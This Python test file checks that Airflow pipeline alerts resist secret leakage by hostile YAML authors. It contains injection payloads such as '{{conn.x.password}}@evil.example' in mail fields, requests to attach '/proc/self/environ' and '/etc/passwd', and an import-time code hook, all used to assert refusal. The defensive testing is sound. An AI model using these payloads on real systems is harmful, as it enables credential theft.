"""Hostile pipeline authors and alerts: a YAML-only author (who writes a pipeline file, nothing
else) cannot make an alert carry a secret of the platform's: a connection's password, a variable,
a file of the worker.

Each case goes through the real path: the pipeline file loaded by the real loader, the alert sent
by the real notifiers to a real SMTP server on loopback (aiosmtpd), with a task context that holds
Airflow's real ``conn`` and ``var`` accessors, and a connection ``x`` whose password is known
(``AIRFLOW_CONN_X``): any rendering of ``{{ conn.x.password }}`` would put it in the mail.
"""

from __future__ import annotations

import html
import os
import sys
import uuid
from pathlib import Path
from unittest import mock

import jinja2
import pytest
import yaml

from eobatch.airflow import alerts
from eobatch.pipelines.loader import ConfigError, load_pipeline
from support.smtp_sink import SmtpSink, body

SMTP = "eobatch_sec_smtp"
PASSWORD = "S3cr3t-" + uuid.uuid4().hex[:12]  # connection x's password: must never leave the worker
VARIABLE = "v4r-" + uuid.uuid4().hex[:12]  # variable x's value: neither
CONN_X = ('{"conn_type": "postgres", "host": "db.internal", "login": "svc", "password": "%s"}' % PASSWORD)
TEMPLATE = "{{ conn.x.password }}"
ALLOWED_ENV = "AIRFLOW__EOBATCH__ALLOWED_NOTIFIERS"
SMTP_NOTIFIER = "airflow.providers.smtp.notifications.smtp.SmtpNotifier"


@pytest.fixture
def smtp():
    sink = SmtpSink()
    env = {**sink.env(SMTP), "AIRFLOW_CONN_X": CONN_X, "AIRFLOW_VAR_X": VARIABLE}
    with mock.patch.dict(os.environ, env):
        os.environ.pop(ALLOWED_ENV, None)  # the platform's default: no notifier class
        yield sink
    sink.close()


def _context() -> dict:
    """A failed task's context as Airflow gives it: with the accessors of connections and variables."""
    from airflow.sdk.execution_time.context import ConnectionAccessor, VariableAccessor

    class TI:
        task_id, run_id, try_number, log_url = "stage", f"manual__{TEMPLATE}", 3, ""

    return {"ti": TI(), "run_id": TI.run_id, "conn": ConnectionAccessor(),
            "var": {"value": VariableAccessor(deserialize_json=False)},
            "exception": RuntimeError(f"record field 'note' = '{TEMPLATE} {{{{ var.value.x }}}}' broke the job")}


def _write(tmp_path: Path, alerts_section: dict, name: str = "hostile.yaml") -> str:
    (tmp_path / "landing").mkdir(exist_ok=True)
    doc = {"name": "orders", "source": {"kind": "files", "path": str(tmp_path / "landing")},
           "schema": "order_id STRING NOT NULL, note STRING", "sink": {"table": str(tmp_path / "lake" / "orders")},
           "quarantine": {"table": str(tmp_path / "lake" / "orders_q")}, "alerts": alerts_section}
    folder = tmp_path / "pipelines"
    folder.mkdir(exist_ok=True)
    (folder / name).write_text(yaml.safe_dump(doc, sort_keys=False), encoding="utf-8")
    return str(folder / name)


def _no_secret(mail) -> None:
    raw = mail.as_string() + body(mail)
    assert PASSWORD not in raw and VARIABLE not in raw
    assert list(mail.iter_attachments()) == []  # nothing of the worker's files attached


def test_the_context_really_holds_the_password():
    """The control: rendered as Airflow renders a notifier's templated field, the text of these
    cases gives the password; each case below must never render it."""
    with mock.patch.dict(os.environ, {"AIRFLOW_CONN_X": CONN_X}):
        assert jinja2.Template(TEMPLATE).render(_context()) == PASSWORD


def test_a_template_in_an_address_or_a_text_arrives_verbatim_and_mails_no_password(smtp, tmp_path):
    """``{{conn.x.password}}@evil.example`` is a valid address: it passes the address check, and
    the mail goes to it as written, never to ``<password>@evil.example``; a template in the run id
    (the subject) and in the error (the body) arrives as text."""
    cfg = load_pipeline(_write(tmp_path, {"notify": [
        {"email": ["ops@example.com", "{{conn.x.password}}@evil.example"], "smtp_conn_id": SMTP,
         "from_email": "{{conn.x.login}}@example.com"}]}))
    alerts.OnFailure(cfg)(_context())
    (mail,) = smtp.wait_for(lambda m: True, timeout=30)
    _no_secret(mail)
    assert mail["X-Rcpt-To"] == "ops@example.com, {{conn.x.password}}@evil.example"
    assert "{{conn.x.password}}@evil.example" in mail["To"] and mail["From"] == "{{conn.x.login}}@example.com"
    assert f"manual__{TEMPLATE}" in mail["Subject"]
    assert f"{TEMPLATE} {{{{ var.value.x }}}}" in body(mail)


def test_an_allowed_notifier_class_gets_its_args_as_literal_text(smtp, tmp_path, monkeypatch):
    """A class the platform allowed (the SMTP provider's own SmtpNotifier, every argument of it a
    templated field): a template in its arguments, even in a header, reaches the mail as text."""
    monkeypatch.setenv(ALLOWED_ENV, SMTP_NOTIFIER)
    cfg = load_pipeline(_write(tmp_path, {"notify": [{
        "notifier": SMTP_NOTIFIER,
        "args": {"to": ["ops@example.com"], "smtp_conn_id": SMTP, "cc": "{{conn.x.password}}@evil.example",
                 "custom_headers": {"X-Note": TEMPLATE}},
        "alert_args": {"subject": "subject", "html_content": "html"}}]}))
    alerts.OnFailure(cfg)(_context())
    (mail,) = smtp.wait_for(lambda m: True, timeout=30)
    _no_secret(mail)
    assert mail["X-Note"] == TEMPLATE and mail["Cc"] == "{{conn.x.password}}@evil.example"
    assert f"manual__{TEMPLATE}" in mail["Subject"] and f"{TEMPLATE} {{{{ var.value.x }}}}" in body(mail)


@pytest.mark.parametrize("args, key, words", [
    ({"files": ["/proc/self/environ"]}, "args.files", "attachments are not a pipeline's to choose"),
    ({"template": "/proc/self/environ"}, "args.template", "template file"),
    ({"subject": f"{TEMPLATE}"}, "args.subject", "the subject is the alert's"),
    ({"html_content": f"<p>{TEMPLATE}</p>"}, "args.html_content", "the body is the alert's"),
    ({"html_content_template_path": "/etc/passwd"}, "args.html_content_template_path", "names a file"),
    ({"context": {"conn": "x"}}, "args.context", "the context is Airflow's"),
])
def test_attachments_templates_and_the_message_are_refused_at_load_naming_the_key(
        smtp, tmp_path, monkeypatch, args, key, words):
    monkeypatch.setenv(ALLOWED_ENV, SMTP_NOTIFIER)
    path = _write(tmp_path, {"notify": [{"notifier": SMTP_NOTIFIER, "args": {"to": "ops@example.com", **args}}]})
    with pytest.raises(ConfigError) as e:
        load_pipeline(path)
    assert e.value.key == f"alerts.notify[0].{key}" and words in str(e.value)
    assert str(e.value).startswith("hostile.yaml: ")


def test_a_notifier_class_outside_the_allow_list_is_refused_at_load_and_never_imported(smtp, tmp_path, monkeypatch):
    """A module whose import would run the author's code (here: write a file) is named in
    ``notifier:``; the platform did not allow it: the file is refused at load, by the loader and
    by the DAG factory at parse time, naming the file and the key, and the module never imported."""
    from eobatch.airflow.dag_factory import build_all

    module = f"leaky_notifier_{uuid.uuid4().hex[:8]}"
    marker = tmp_path / "imported"
    (tmp_path / f"{module}.py").write_text(f"open({str(marker)!r}, 'w').write('ran')\nclass Leak: pass\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    monkeypatch.setenv(ALLOWED_ENV, SMTP_NOTIFIER)  # the platform allows another class, not this one
    path = _write(tmp_path, {"notify": [{"notifier": f"{module}.Leak", "args": {"text": TEMPLATE}}]})
    with pytest.raises(ConfigError) as e:
        load_pipeline(path)
    assert e.value.key == "alerts.notify[0].notifier"
    assert str(e.value).startswith(f"hostile.yaml: alerts.notify[0].notifier: {module}.Leak is not a notifier "
                                   "class the platform allows")
    dags, errors = build_all(str(tmp_path / "pipelines"))
    assert not dags and "hostile.yaml: alerts.notify[0].notifier" in " ".join(errors.values())
    assert module not in sys.modules and not marker.exists()


def test_an_smtp_conn_id_naming_another_connection_never_hands_it_to_an_smtp_client(smtp, tmp_path, caplog):
    """``smtp_conn_id: x`` (a database connection, its host pointed at the SMTP server here): the
    mail is not sent through it, so its login and password never reach an SMTP client."""
    conn = f'{{"conn_type": "postgres", "host": "127.0.0.1", "port": {smtp.port}, "login": "svc", ' \
           f'"password": "{PASSWORD}"}}'
    cfg = load_pipeline(_write(tmp_path, {"notify": [{"email": "ops@example.com", "smtp_conn_id": "x"}]}))
    with mock.patch.dict(os.environ, {"AIRFLOW_CONN_X": conn}):
        assert alerts.send(cfg, alerts.Alert("failure", "orders", "[eobatch] orders: x", ("line",))) == 0
    assert "is a postgres connection, not an SMTP one" in caplog.text and PASSWORD not in caplog.text
    assert smtp.mails == []


def test_an_error_quoting_a_uri_with_a_spaced_or_quoted_password_mails_none_of_it(smtp, tmp_path):
    """The error text of a failed task quotes connection URIs as people paste them: a password with
    a space, with quotes, in quotes. The mail shows each URI with ``***`` for its password."""
    cfg = load_pipeline(_write(tmp_path, {"notify": [{"email": "ops@example.com", "smtp_conn_id": SMTP}]}))
    ctx = dict(_context(), exception=RuntimeError(
        "cannot reach postgres://svc:hunter two@db:5432/app nor 'smtp://ops:it's s3cret@mail:25' "
        'nor "kafka://u:pa\\"ss w0rd@broker:9092"'))
    alerts.OnFailure(cfg)(ctx)
    (mail,) = smtp.wait_for(lambda m: True, timeout=30)
    b = html.unescape(body(mail))
    for secret in ("hunter", "two@", "s3cret", "it's", "w0rd", 'pa\\"ss'):
        assert secret not in mail.as_string() + b, secret
    assert "postgres://svc:***@db:5432/app nor 'smtp://ops:***@mail:25' nor \"kafka://u:***@broker:9092\"" in b
